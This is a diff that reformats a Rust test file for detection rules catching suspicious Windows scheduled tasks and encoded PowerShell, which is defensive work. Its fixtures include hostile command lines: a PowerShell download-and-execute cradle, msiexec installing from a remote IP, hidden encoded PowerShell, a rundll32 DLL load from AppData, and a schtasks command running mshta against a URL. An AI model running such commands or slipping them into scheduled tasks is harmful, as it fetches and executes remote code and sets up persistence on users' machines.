@@ -93,8 +93,17 @@ fn every_rule_passes_lint_and_has_a_test() {
     }
     let set = pack();
     let tested = [
-        USER_WRITABLE, ENCODED_POWERSHELL_TASK, LOLBIN_TASK, HIDDEN, SYSTEM_USER_WRITABLE, REMOTE_ATSVC, TASK_CACHE, REGISTERED,
-        DELETED, ENCODED_POWERSHELL, SCHTASKS,
+        USER_WRITABLE,
+        ENCODED_POWERSHELL_TASK,
+        LOLBIN_TASK,
+        HIDDEN,
+        SYSTEM_USER_WRITABLE,
+        REMOTE_ATSVC,
+        TASK_CACHE,
+        REGISTERED,
+        DELETED,
+        ENCODED_POWERSHELL,
+        SCHTASKS,
     ];
     for r in &set.rules {
         let id = r.meta.id.as_deref().unwrap_or("");
@@ -114,10 +123,14 @@ fn user_writable_path_task() {
     // The 4699 of the same task is a deletion, not a creation.
     assert!(!fires(&set, USER_WRITABLE, record(&atexec, 566840)));
     // A task updated (4702) to write to c:\users\public (lower case in the task).
-    let Some(update) = corpus_file("user_writable_path_task", "Lateral Movement/remote task update 4624 4702 same logonid.evtx") else { return };
+    let Some(update) = corpus_file("user_writable_path_task", "Lateral Movement/remote task update 4624 4702 same logonid.evtx") else {
+        return;
+    };
     assert!(fires(&set, USER_WRITABLE, record(&update, 2171293)));
     // Near miss: Windows' own SvcRestartTask update, a COM handler with no path at all.
-    let Some(dc) = corpus_file("user_writable_path_task", "Credential Access/ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx") else { return };
+    let Some(dc) = corpus_file("user_writable_path_task", "Credential Access/ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx") else {
+        return;
+    };
     assert!(!fires(&set, USER_WRITABLE, record(&dc, 198238563)));
 }
 
@@ -126,7 +139,8 @@ fn encoded_powershell_task() {
     // The corpus has no task that runs PowerShell: hand-written 4698s.
     let set = pack();
     let t = "2026-03-01T10:00:00Z";
-    let encoded = task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "-NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
+    let encoded =
+        task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "-NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
     assert!(fires(&set, ENCODED_POWERSHELL_TASK, &task_event(4698, t, "\\Updater", &encoded)));
     // The same through an update, with another dash and the long flag abbreviated.
     let slash = task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "/NoP /enco SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
@@ -134,10 +148,12 @@ fn encoded_powershell_task() {
     // The flag first in <Arguments>, with no space before it.
     let first = task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "-ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
     assert!(fires(&set, ENCODED_POWERSHELL_TASK, &task_event(4698, t, "\\Updater", &first)));
-    let iex = task_xml("S-1-5-18", "HighestAvailable", false, "pwsh.exe", "-c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"");
+    let iex =
+        task_xml("S-1-5-18", "HighestAvailable", false, "pwsh.exe", "-c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"");
     assert!(fires(&set, ENCODED_POWERSHELL_TASK, &task_event(4698, t, "\\Updater", &iex)));
     // Near miss: PowerShell running a script file from Program Files.
-    let plain = task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "-NoProfile -File \"C:\\Program Files\\Backup\\run.ps1\"");
+    let plain =
+        task_xml("S-1-5-18", "HighestAvailable", false, "powershell.exe", "-NoProfile -File \"C:\\Program Files\\Backup\\run.ps1\"");
     assert!(!fires(&set, ENCODED_POWERSHELL_TASK, &task_event(4698, t, "\\Backup", &plain)));
 }
 
@@ -146,7 +162,13 @@ fn lolbin_task() {
     // No corpus task runs a LOLBin (they run cmd.exe and FullPowers.exe): hand-written 4698s.
     let set = pack();
     let t = "2026-03-01T10:00:00Z";
-    let rundll = task_xml("S-1-5-21-1-2-3-1001", "LeastPrivilege", false, "C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\alice\\AppData\\Local\\x.dll,DllRegisterServer");
+    let rundll = task_xml(
+        "S-1-5-21-1-2-3-1001",
+        "LeastPrivilege",
+        false,
+        "C:\\Windows\\System32\\rundll32.exe",
+        "C:\\Users\\alice\\AppData\\Local\\x.dll,DllRegisterServer",
+    );
     assert!(fires(&set, LOLBIN_TASK, &task_event(4698, t, "\\Emotet", &rundll)));
     let msiexec_url = task_xml("S-1-5-18", "HighestAvailable", false, "msiexec.exe", "/q /i http://203.0.113.7/p.msi");
     assert!(fires(&set, LOLBIN_TASK, &task_event(4698, t, "\\Inst", &msiexec_url)));
@@ -165,21 +187,36 @@ fn hidden_task() {
     assert!(fires(&set, HIDDEN, record(&atexec, 566836)), "atexec registers <Hidden>true</Hidden>");
     assert!(!fires(&set, HIDDEN, record(&atexec, 566840)), "4699: the deletion of the hidden task");
     // Near miss: FullPowers' task is a 4698 but not hidden.
-    let Some(fullpowers) = corpus_file("hidden_task", "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx") else { return };
+    let Some(fullpowers) =
+        corpus_file("hidden_task", "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx")
+    else {
+        return;
+    };
     assert!(!fires(&set, HIDDEN, record(&fullpowers, 282588)));
 }
 
 #[test]
 fn system_task_running_user_writable_binary() {
     let set = pack();
-    let Some(atexec) = corpus_file("system_task_running_user_writable_binary", "Execution/temp_scheduled_task_4698_4699.evtx") else { return };
+    let Some(atexec) = corpus_file("system_task_running_user_writable_binary", "Execution/temp_scheduled_task_4698_4699.evtx") else {
+        return;
+    };
     // S-1-5-18, HighestAvailable, output in %windir%\Temp\.
     assert!(fires(&set, SYSTEM_USER_WRITABLE, record(&atexec, 566836)));
-    let Some(update) = corpus_file("system_task_running_user_writable_binary", "Lateral Movement/remote task update 4624 4702 same logonid.evtx") else { return };
+    let Some(update) =
+        corpus_file("system_task_running_user_writable_binary", "Lateral Movement/remote task update 4624 4702 same logonid.evtx")
+    else {
+        return;
+    };
     assert!(fires(&set, SYSTEM_USER_WRITABLE, record(&update, 2171293)), "<UserId>SYSTEM</UserId>, c:\\users\\public");
     // Near miss: FullPowers runs from C:\Users\Public but as LOCAL SERVICE (S-1-5-19) with
     // LeastPrivilege: user-writable, not privileged.
-    let Some(fullpowers) = corpus_file("system_task_running_user_writable_binary", "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx") else { return };
+    let Some(fullpowers) = corpus_file(
+        "system_task_running_user_writable_binary",
+        "Privilege Escalation/PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx",
+    ) else {
+        return;
+    };
     let e = record(&fullpowers, 282588);
     assert!(fires(&set, USER_WRITABLE, e));
     assert!(!fires(&set, SYSTEM_USER_WRITABLE, e));
@@ -281,11 +318,17 @@ fn correlate(set: &RuleSet, events: &[Event]) -> Vec<(taskhunt_sigma::Correlatio
 #[test]
 fn encoded_powershell_process() {
     let set = pack();
-    let Some(iis) = corpus_file("encoded_powershell_process", "Credential Access/discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx") else { return };
+    let Some(iis) =
+        corpus_file("encoded_powershell_process", "Credential Access/discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx")
+    else {
+        return;
+    };
     // `powershell.exe -nop -noni -enc JABQAHIAbwBnAHIAZQBzAHMA...`
     assert!(fires(&set, ENCODED_POWERSHELL, record(&iis, 5875)));
     // Near miss: PowerShell started with a plain command.
-    let Some(vs) = corpus_file("encoded_powershell_process", "Execution/execution_evasion_visual_studio_prebuild_event.evtx") else { return };
+    let Some(vs) = corpus_file("encoded_powershell_process", "Execution/execution_evasion_visual_studio_prebuild_event.evtx") else {
+        return;
+    };
     let e = record(&vs, 2429138);
     assert_eq!(e.text("CommandLine").as_deref(), Some("powershell.exe   start-process notepad.exe"));
     assert!(!fires(&set, ENCODED_POWERSHELL, e));
@@ -314,19 +357,29 @@ fn encoded_powershell_process_on_security_4688() {
 #[test]
 fn schtasks_create_suspicious() {
     let set = pack();
-    let Some(mshta) = corpus_file("schtasks_create_suspicious", "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx") else { return };
+    let Some(mshta) = corpus_file("schtasks_create_suspicious", "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx")
+    else {
+        return;
+    };
     // `schtasks.exe /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://..."`
     assert!(fires(&set, SCHTASKS, record(&mshta, 4129)));
-    let Some(elevator) = corpus_file("schtasks_create_suspicious", "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx") else { return };
+    let Some(elevator) = corpus_file("schtasks_create_suspicious", "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx")
+    else {
+        return;
+    };
     // `/create /xml c:\users\ieuser\appdata\local\temp\elevator.xml /tn elevator`
     assert!(fires(&set, SCHTASKS, record(&elevator, 16243)));
     // A task created to run as SYSTEM, the account name quoted: `/ru "System"`.
-    let Some(edr) = corpus_file("schtasks_create_suspicious", "AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx") else { return };
+    let Some(edr) = corpus_file("schtasks_create_suspicious", "AutomatedTestingTools/panache_sysmon_vs_EDRTestingScript.evtx") else {
+        return;
+    };
     assert!(fires(&set, SCHTASKS, record(&edr, 5002)));
     // Near misses: the same tool running (/run) and deleting (/delete) that task.
     assert!(!fires(&set, SCHTASKS, record(&elevator, 16245)));
     assert!(!fires(&set, SCHTASKS, record(&elevator, 16249)));
     // Near miss: an Atomic Red Team test creating a task that runs System32\cmd.exe.
-    let Some(atomic) = corpus_file("schtasks_create_suspicious", "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx") else { return };
+    let Some(atomic) = corpus_file("schtasks_create_suspicious", "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx") else {
+        return;
+    };
     assert!(!fires(&set, SCHTASKS, record(&atomic, 4086)));
 }
